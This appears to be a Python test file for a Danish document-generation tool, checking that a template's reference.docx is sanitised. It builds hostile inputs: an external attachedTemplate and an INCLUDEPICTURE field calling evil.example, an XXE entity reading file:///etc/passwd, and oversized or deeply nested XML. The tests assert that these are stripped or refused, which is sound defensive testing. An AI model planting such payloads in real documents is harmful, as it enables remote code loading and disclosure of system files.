"""A pack's reference.docx brings only what a letterhead needs; no external relationship reaches an output (issue 18).

Before, a pack's reference was copied into every document as it was: an attached
template on a remote address, external hyperlinks, an INCLUDEPICTURE field to a
URL, a first-page header replacing the letterhead, custom properties and a large
customXml part all reached the outputs, and ``plan check`` said "i orden".
"""

from __future__ import annotations

import io
import zipfile

import pytest

from beredskab.cli.commands import cli
from beredskab.engine import Engine
from beredskab.errors import TemplateError

from .conftest import ROOT, TODAY

DEFAULT_REFERENCE = ROOT / "templates" / "reference.docx"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _edit(reference: bytes, changes: dict[str, bytes | None]) -> bytes:
    """``reference`` with parts replaced, added or (None) removed."""
    source = zipfile.ZipFile(io.BytesIO(reference))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info, source.read(info))
        for name, data in changes.items():
            if data is not None:
                target.writestr(name, data)
    return out.getvalue()


def _hostile_reference() -> bytes:
    base = zipfile.ZipFile(DEFAULT_REFERENCE)
    rels = base.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace("</Relationships>",
                        f'<Relationship Id="rId90" Type="{REL}/hyperlink" Target="https://evil.example/x" '
                        'TargetMode="External"/>'
                        f'<Relationship Id="rId91" Type="{REL}/header" Target="header9.xml"/>'
                        f'<Relationship Id="rId92" Type="{REL}/customXml" Target="../customXml/item1.xml"/>'
                        "</Relationships>")
    settings_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                     'Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>')
    settings = base.read("word/settings.xml").decode().replace(
        "<w:zoom ", '<w:attachedTemplate r:id="rId1"/><w:zoom ')
    header = base.read("word/header1.xml").decode()
    evil_header = header.replace("</w:hdr>", '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "https://evil.example/p.png" '
                                 '\\d \'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>')
    document = base.read("word/document.xml").decode().replace(
        '<w:headerReference w:type="default"', '<w:headerReference w:type="first" r:id="rId91"/>'
        '<w:headerReference w:type="default"').replace(
        "</w:sectPr>", "<w:titlePg/></w:sectPr>")
    assert 'w:type="first"' in document
    return _edit(DEFAULT_REFERENCE.read_bytes(), {
        "word/_rels/document.xml.rels": rels.encode(),
        "word/_rels/settings.xml.rels": settings_rels.encode(),
        "word/settings.xml": settings.encode(),
        "word/header1.xml": evil_header.encode(),
        "word/header9.xml": header.replace("</w:hdr>", "<w:p><w:r><w:t>FALSK BREVHOVED</w:t></w:r></w:p></w:hdr>").encode(),
        "word/document.xml": document.encode(),
        "docProps/custom.xml": b'<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/'
                               b'officeDocument/2006/custom-properties"/>',
        "customXml/item1.xml": b"<?xml version='1.0'?><x>" + b"0" * 6_000_000 + b"</x>",
    })


@pytest.fixture
def hostile_reference_pack(make_pack):
    return make_pack({"templates/reference.docx": _hostile_reference()})


def test_output_takes_only_the_letterhead_from_a_hostile_reference(hostile_reference_pack, phone_threat):
    data = Engine.load(hostile_reference_pack).render(phone_threat, "incident_note", today=TODAY)
    package = zipfile.ZipFile(io.BytesIO(data))
    names = package.namelist()
    assert not any(n.startswith("customXml") or n == "docProps/custom.xml" for n in names)
    for name in names:
        text = package.read(name).decode("utf-8", "replace")
        assert 'TargetMode="External"' not in text, name
        assert "evil.example" not in text, name
        assert "INCLUDEPICTURE" not in text, name
        assert "FALSK BREVHOVED" not in text, name
    document = package.read("word/document.xml").decode()
    assert "titlePg" not in document and 'w:type="first"' not in document
    assert "attachedTemplate" not in package.read("word/settings.xml").decode()


def test_plan_check_warns_about_what_a_reference_brings(hostile_reference_pack, runner):
    result = runner.invoke(cli, ["plan", "check", str(hostile_reference_pack)])
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.output.splitlines() if line.startswith("Advarsel:")]
    text = "\n".join(warnings)
    assert "delen customXml/item1.xml er fjernet" in text
    assert "delen docProps/custom.xml er fjernet" in text
    assert "en ekstern henvisning (hyperlink) er fjernet" in text
    assert "en ekstern henvisning (attachedTemplate) er fjernet" in text
    assert "indstillingen attachedTemplate er fjernet" in text
    assert "første side" in text
    assert "et felt, der henter indhold udefra, er fjernet" in text


@pytest.mark.parametrize("changes, reason", [
    ({"word/media/image9.png": b"\0" * 6_000_000}, "er for stort"),
    # the DTD in the real styles (a stub styles.xml was refused before issue 18 for its missing styles)
    ({"word/styles.xml": zipfile.ZipFile(DEFAULT_REFERENCE).read("word/styles.xml").replace(
        b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)}, "indeholder en DTD eller entiteter"),
    ({"word/styles.xml": b"<a>" * 5000 + b"</a>" * 5000}, "har ugyldig XML i word/styles.xml"),
], ids=["oversized-part", "xxe", "deep-nesting"])
def test_reference_that_cannot_be_taken_is_one_danish_line(make_pack, phone_threat, changes, reason):
    pack = make_pack({"templates/reference.docx": _edit(DEFAULT_REFERENCE.read_bytes(), changes)})
    with pytest.raises(TemplateError) as info:
        Engine.load(pack).render(phone_threat, "incident_note", today=TODAY)
    [line] = info.value.lines()
    assert line.startswith("referencedokumentet 'reference.docx'") and reason in line, line


def test_default_reference_loses_nothing():
    from beredskab.word._reference import clean_reference

    cleaned, warnings = clean_reference(DEFAULT_REFERENCE.read_bytes())
    assert warnings == []
    assert sorted(zipfile.ZipFile(io.BytesIO(cleaned)).namelist()) == sorted(
        zipfile.ZipFile(DEFAULT_REFERENCE).namelist())
